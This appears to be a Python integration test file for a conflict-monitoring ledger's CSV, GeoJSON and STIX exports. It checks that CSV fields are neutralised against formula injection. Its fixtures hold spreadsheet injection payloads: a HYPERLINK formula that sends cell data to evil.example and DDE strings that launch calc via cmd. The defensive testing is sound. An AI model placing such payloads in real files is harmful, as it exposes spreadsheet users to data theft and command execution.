"""Exports through the API (token auth, media types, as of / known at) and the CLI, on SQLite and
PostgreSQL: CSV of facts, pledges and incidents (ACLED layout, round trip into a fresh ledger), GeoJSON
layers, a STIX 2.1 bundle checked with the stix2 library; hostile text in every CSV field."""

from __future__ import annotations

import csv
import io
import json

import stix2
from typer.testing import CliRunner

from stabforce.bootstrap import build
from stabforce.cli.main import app as cli
from stabforce.services import csvsafe, exchange, exports, facts, incidents
from stabforce.services.admin import init_database
from stabforce.settings import Settings
from tests.builders import fact_input, pledge_input
from tests.integration.api.conftest import bearer

DANGER = tuple(csvsafe.DANGEROUS)
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def assert_no_formula(text: str) -> None:
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            assert not cell.startswith(DANGER) or csvsafe._NUMBER.match(cell), cell


def hostile_fact(admin_actor, services, **extra):
    """A stance whose every text field starts like a formula."""
    return facts.record_fact(services.ledger, admin_actor, fact_input(
        "stance", "contributor:AZE", payload={"stance": "considering", "conditions": ["+cmd|' /C calc'!A0"]},
        valid_from="2025-12-20", quote="@SUM(1+1)*cmd|' /C calc'!A0", grade="C3",
        source={"key": HOSTILE, "date": "2025-12-20", "title": "-2+3", "publisher": "\tTAB",
                "attribution": "\r=CR", "url": "https://example.org/=x"}, **extra))


def test_facts_csv_is_neutralised_filtered_and_known_at(client, tokens, services, admin_actor):
    facts.record_facts(services.ledger, admin_actor, [pledge_input(1000, 1000, id="idn-1", day="2025-11-30")])
    hostile = hostile_fact(admin_actor, services)
    response = client.get("/api/v1/export/csv/facts", headers=bearer(tokens["viewer"]))
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    assert_no_formula(response.text)
    rows = {r["id"]: r for r in rows_of(response.text)}
    assert set(rows) == {"idn-1", hostile.id}
    row = rows[hostile.id]
    assert row["source_key"] == "'" + HOSTILE and row["quote"].startswith("'@SUM") and row["source_title"] == "'-2+3"
    assert row["source_publisher"] == "'\tTAB" and row["source_attribution"] == "'\r=CR"
    assert csvsafe.restore(row["source_key"]) == HOSTILE and json.loads(row["payload"])["stance"] == "considering"
    only = rows_of(client.get("/api/v1/export/csv/facts?kind=pledge", headers=bearer(tokens["viewer"])).text)
    assert [r["id"] for r in only] == ["idn-1"]
    before = client.get("/api/v1/export/csv/facts?as_of=2025-12-01", headers=bearer(tokens["viewer"]))
    assert [r["id"] for r in rows_of(before.text)] == ["idn-1"]
    assert client.get("/api/v1/export/csv/facts").status_code == 401


def test_pledges_csv_as_of_and_known_at(client, tokens, services, admin_actor):
    facts.record_facts(services.ledger, admin_actor, [
        pledge_input(1000, 1000, id="early", day="2025-11-30", known_from="2025-11-30"),
        pledge_input(None, 20000, id="later", day="2025-12-12", subject="contributor:PAK",
                     known_from="2025-12-12")])
    h = bearer(tokens["analyst"])
    now = rows_of(client.get("/api/v1/export/csv/pledges?as_of=2026-01-01", headers=h).text)
    assert {(r["contributor"], r["fact"], r["high"]) for r in now} == {("IDN", "early", "1000"),
                                                                       ("PAK", "later", "20000")}
    assert next(r for r in now if r["contributor"] == "PAK")["stated"] == "up to 20,000"
    known = rows_of(client.get("/api/v1/export/csv/pledges?as_of=2026-01-01&known_at=2025-12-01T00:00:00Z",
                               headers=h).text)
    assert [r["fact"] for r in known] == ["early"]


HOSTILE_INCIDENTS = [
    {"event_type": "explosions_remote_violence", "sub_event_type": "=cmd|' /C calc'!A0", "violation": "serious",
     "actors": ["@Test Force", "-Minus Group", "Test; no"][:2], "time": "06:30",
     "place": {"lat": 31.29, "lon": 34.25, "precision": 2, "name": '+Rafah, "south"'},
     "fatalities": 3, "injured": 7, "external_id": "TST1", "notes": "line one\r\nline two, with comma\t=tab"},
    {"event_type": "riots", "violation": "none", "actors": [], "notes": "'=already quoted"},
]


def record_incidents(services, admin_actor):
    return facts.record_facts(services.ledger, admin_actor, [
        fact_input("incident", f"incident:hostile-{n}", payload=payload, valid_from=f"2026-02-1{n}",
                   grade="B2" if n else "C3", source={"key": f"=report-{n}", "date": f"2026-02-1{n}",
                                                      "attribution": "@wire" if n else None})
        for n, payload in enumerate(HOSTILE_INCIDENTS)])


def test_incidents_csv_in_acled_layout_round_trips_into_a_fresh_ledger(client, tokens, services, admin_actor,
                                                                        tmp_path):
    recorded = record_incidents(services, admin_actor)
    response = client.get("/api/v1/export/csv/incidents?as_of=2026-03-01", headers=bearer(tokens["monitor"]))
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert_no_formula(response.text)
    assert response.text.splitlines()[0].startswith("event_id_cnty,event_date,year,time_precision,disorder_type,")
    # a fresh ledger (SQLite file) imports the file through the ACLED importer
    url = f"sqlite:///{tmp_path / 'fresh.db'}"
    init_database(url)
    fresh = build(Settings(database_url=url, _env_file=None))
    try:
        report = incidents.import_acled_csv(fresh.ledger, admin_actor, response.content, name="export.csv")
        assert len(report.imported) == 2 and not report.bad_rows
        original = {f.valid_from: f for f in recorded}
        for fact in fresh.ledger.find():
            before = original[fact.valid_from]
            expected = dict(before.payload)
            expected["external_id"] = expected.get("external_id") or before.subject.partition(":")[2]
            got = {k: v for k, v in dict(fact.payload).items() if v not in (None, [])}
            assert got == {k: v for k, v in expected.items() if v not in (None, [])}
            assert fact.grade == before.grade and fact.source.attribution == (before.source.attribution
                                                                              or before.source.key)
            assert fact.known_from == before.known_from.replace(microsecond=0)
    finally:
        fresh.close()
    before_any = client.get("/api/v1/export/csv/incidents?as_of=2026-02-01", headers=bearer(tokens["monitor"]))
    assert len(rows_of(before_any.text)) == 0


def test_geojson_layers(client, tokens, services, admin_actor):
    exchange.load_scenario(services.ledger, admin_actor, "gaza-isf")
    record_incidents(services, admin_actor)
    h = bearer(tokens["viewer"])
    counts = {}
    for layer in ("zones", "sectors", "sites", "incidents"):
        response = client.get(f"/api/v1/export/geojson/{layer}?as_of=2026-03-01", headers=h)
        assert response.status_code == 200, response.text
        assert response.headers["content-type"].startswith("application/geo+json")
        body = response.json()
        assert body["type"] == "FeatureCollection" and body["stabforce"]["layer"] == layer
        for feature in body["features"]:
            assert feature["type"] == "Feature" and feature["geometry"]["type"] in ("Point", "Polygon", "MultiPolygon")
        counts[layer] = body["features"]
    assert {f["properties"]["zone"] for f in counts["zones"]} == {"idf-held", "hamas-held"}
    assert counts["zones"][0]["properties"]["ledger"]["source"]  # the ledger's report, with its source
    assert len(counts["sectors"]) == 5
    assert [f["geometry"]["coordinates"] for f in counts["incidents"]] == [[34.25, 31.29]]  # only the placed one
    assert counts["incidents"][0]["properties"]["precision"] == 2
    assert all(f["properties"]["fact"] for f in counts["sites"])
    early = client.get("/api/v1/export/geojson/incidents?as_of=2026-02-01", headers=h).json()
    assert early["features"] == []
    assert client.get("/api/v1/export/geojson/roads", headers=h).status_code == 422


def test_stix_bundle_validates_with_stix2_and_carries_source_grade_and_markings(client, tokens, services,
                                                                               admin_actor, monkeypatch):
    facts.record_facts(services.ledger, admin_actor, [pledge_input(1000, 1000, id="idn-1", day="2025-11-30")])
    hostile = hostile_fact(admin_actor, services)
    response = client.get("/api/v1/export/stix", headers=bearer(tokens["viewer"]))
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/stix+json")
    bundle = stix2.parse(response.text, allow_custom=True)
    notes = {o.x_stabforce_fact["id"]: o for o in bundle.objects if o.type == "note"}
    reports = [o for o in bundle.objects if o.type == "report"]
    assert set(notes) == {"idn-1", hostile.id} and len(reports) == 2
    note = notes[hostile.id]
    assert note.x_stabforce_grade == "C3" and "grade:C3" in note.labels and note.confidence == 50
    assert note.x_stabforce_source["key"] == HOSTILE and note.authors == ["\r=CR"]
    assert note.x_stabforce_fact["hash"] == hostile.hash and "object_marking_refs" not in note  # unmarked
    report = next(r for r in reports if note.id in r.object_refs)
    assert report.external_references[0].external_id == HOSTILE and note.object_refs == [report.id]
    assert notes["idn-1"].confidence == 70  # B2: credibility 2, "probably true"
    # a fact's TLP marking becomes the OASIS TLP 2.0 marking definition (AMBER+STRICT has its own)
    monkeypatch.setattr(exports, "marking_of", lambda f: "AMBER+STRICT" if f.id == "idn-1" else None)
    marked = stix2.parse(client.get("/api/v1/export/stix", headers=bearer(tokens["viewer"])).text,
                         allow_custom=True)
    note = next(o for o in marked.objects if o.type == "note" and o.x_stabforce_fact["id"] == "idn-1")
    strict = "marking-definition--939a9414-2ddd-4d32-a0cd-375ea402b003"
    assert note.object_marking_refs == [strict] and note.x_stabforce_tlp == "AMBER+STRICT"
    definition = next(o for o in marked.objects if o.id == strict)
    assert definition.name == "TLP:AMBER+STRICT" and definition.extensions[exports.TLP2_EXTENSION] == {
        "extension_type": "property-extension", "tlp_2_0": "amber+strict"}
    assert stix2.TLP_AMBER.id not in {o.id for o in marked.objects}  # no TLP 1.0 definitions
    record_incidents(services, admin_actor)
    seen = stix2.parse(client.get("/api/v1/export/stix?kind=incident", headers=bearer(tokens["viewer"])).text,
                       allow_custom=True)
    observed = [o for o in seen.objects if o.type == "observed-data"]
    events = {o.id: o for o in seen.objects if o.type == "x-stabforce-event"}
    assert len(observed) == 2 and {o.first_observed.isoformat() for o in observed} == {
        "2026-02-10T06:30:00+00:00", "2026-02-11T00:00:00+00:00"}
    event = events[next(o for o in observed if o.first_observed.day == 10).object_refs[0]]
    assert event.event_type == "explosions_remote_violence" and event.fatalities == 3 and event.latitude == 31.29
    notes = [o for o in seen.objects if o.type == "note"]
    assert all(any(r.startswith("observed-data--") for r in n.object_refs) for n in notes)
    only = stix2.parse(client.get("/api/v1/export/stix?kind=pledge", headers=bearer(tokens["viewer"])).text,
                       allow_custom=True)
    assert [o.x_stabforce_fact["id"] for o in only.objects if o.type == "note"] == ["idn-1"]


def test_openapi_documents_the_export_media_types(client):
    paths = client.get("/api/v1/openapi.json").json()["paths"]
    media = {path: list(paths[path]["get"]["responses"]["200"]["content"]) for path in
             ("/api/v1/export/csv/facts", "/api/v1/export/csv/pledges", "/api/v1/export/csv/incidents",
              "/api/v1/export/geojson/{layer}", "/api/v1/export/stix")}
    assert media == {"/api/v1/export/csv/facts": ["text/csv"], "/api/v1/export/csv/pledges": ["text/csv"],
                     "/api/v1/export/csv/incidents": ["text/csv"],
                     "/api/v1/export/geojson/{layer}": ["application/geo+json"],
                     "/api/v1/export/stix": ["application/stix+json"]}


def test_cli_exports(db_url, tmp_path, services, admin_actor):
    record_incidents(services, admin_actor)
    hostile_fact(admin_actor, services)
    runner = CliRunner()

    def sf(*args):
        return runner.invoke(cli, ["--database-url", db_url, *args])

    out = tmp_path / "facts.csv"
    done = sf("export-csv", "facts", "--kind", "stance", "--out", str(out))
    assert done.exit_code == 0, done.output
    assert_no_formula(out.read_text(encoding="utf-8"))
    assert [r["kind"] for r in rows_of(out.read_text(encoding="utf-8"))] == ["stance"]
    acled = sf("export-csv", "incidents", "--as-of", "2026-03-01")
    assert acled.exit_code == 0 and len(rows_of(acled.stdout)) == 2
    geo = sf("export-geojson", "incidents", "--as-of", "2026-03-01")
    assert geo.exit_code == 0 and len(json.loads(geo.stdout)["features"]) == 1
    bundle = sf("export-stix")
    assert bundle.exit_code == 0 and len([o for o in stix2.parse(bundle.stdout, allow_custom=True).objects
                                          if o.type == "note"]) == 3
    assert sf("export-csv", "weapons").exit_code == 2
    assert sf("export-geojson", "roads").exit_code == 2

